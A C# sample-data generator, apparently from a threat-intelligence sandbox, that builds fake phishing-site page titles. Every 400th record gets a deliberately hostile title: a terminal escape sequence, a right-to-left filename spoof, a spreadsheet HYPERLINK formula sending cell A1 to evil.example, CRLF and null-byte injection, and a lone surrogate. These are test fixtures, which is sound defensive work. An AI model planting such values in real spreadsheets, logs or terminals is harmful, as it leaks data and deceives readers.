using System.Text.Json;

namespace ThreatEvents.Sandbox.SampleData;

/// <summary>
/// What look-alike sites call themselves, and what their makers put there for those who read it in a terminal or a spreadsheet.
/// </summary>
internal static class PageTitles
{
    private const int HostileEvery = 400;
    private const int LoneSurrogateEvery = 100_000;

    private static readonly string[] Plain =
        ["", "Index of /", "This domain is parked", "403 Forbidden", "Coming soon…", "Domain for sale"];
    private static readonly string[] Framed =
        ["{0} | Sign in", "{0} – Connexion", "Welcome to {0}", "{0}: verify your account", "{0} - Anmelden", "Login « {0} »"];

    /// <summary>Whether the record at that place bears a hostile title.</summary>
    public static bool IsHostile(int serial) => (serial % HostileEvery) is 7 or 107 or 207 or 307 || IsLoneSurrogate(serial);

    public static void Write(Utf8JsonWriter writer, JsonEncodedText name, int serial, Brand brand, ref Dice dice)
    {
        if (IsLoneSurrogate(serial))
        {
            // Half a character: no correct writer produces it, so it goes in as it stands on the wire.
            writer.WritePropertyName(name);
            writer.WriteRawValue("\"Sign in \\ud800 here\"", skipInputValidation: true);
            return;
        }

        writer.WriteString(name, Text(serial, brand, ref dice));
    }

    private static bool IsLoneSurrogate(int serial) => serial % LoneSurrogateEvery == LoneSurrogateEvery - 93;

    private static string Text(int serial, Brand brand, ref Dice dice) => (serial % HostileEvery) switch
    {
        7 => $"\u001b[31m{brand.Name}\u001b[0m\u001b]0;owned\u0007 sign in",
        107 => $"{brand.Name} \u202Egpj.exe",
        207 => "=HYPERLINK(\"http://evil.example/?\"&A1;\"Click here\")",
        307 => $"{brand.Name}\u0000\r\nsign; in, \"now\"",
        _ => dice.Percent(25) ? dice.Pick(Plain) : dice.Pick(Framed).Replace("{0}", brand.Name),
    };
}
